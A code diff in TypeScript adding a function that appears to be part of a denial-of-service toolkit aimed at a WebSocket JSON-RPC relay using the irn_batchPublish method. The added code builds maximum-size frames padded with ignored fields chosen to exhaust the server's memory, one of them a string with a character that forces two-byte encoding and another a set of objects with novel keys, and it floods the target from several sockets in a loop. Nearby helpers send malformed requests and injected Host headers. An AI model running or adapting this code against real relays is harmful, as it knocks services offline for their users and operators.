@@ -328,5 +328,29 @@ export const pipeline = (target: Target, path: string, headers = 'Host: x\r\n', 
   })
 }
 
+/**
+ * Five keys publish in frames of the greatest length, as many as the bytes of an address allow. Most of a frame is a field that the relay
+ * ignores: a text in which one character makes V8 use two bytes for each, and objects with new keys.
+ */
+export async function publishWide(target: Target) {
+  const frame = () => {
+    const messages = drafts(128, anyTopic, 604_800)
+    const head = `{"id":1,"jsonrpc":"2.0","method":"irn_batchPublish","params":{"messages":${JSON.stringify(messages)},"y":${shapes(1_900)},"x":"€`
+    return `${head}${'x'.repeat(256 * kib - Buffer.byteLength(head) - 3)}"}}`
+  }
+  while (!target.isOver()) {
+    const sockets = await gather(target, 5)
+    const frames = sockets.slice(0, 5).map(() => Array.from({ length: 13 }, frame))
+    for (const [index, socket] of sockets.entries())
+      for (const each of frames[index] ?? []) {
+        if (socket.readyState !== WebSocket.OPEN) break
+        socket.send(each)
+        target.seen.sent += 1
+      }
+    await rest(target, 20_000)
+    for (const socket of sockets) socket.terminate()
+  }
+}
+
 export const raw = (socket: WebSocket) => (socket as unknown as { _socket: Socket })._socket
 export const badIds = (length: number) => `{"id":1.5,"jsonrpc":"2.0","params":[${'{"id":1},'.repeat(length / 9)}{}]}`
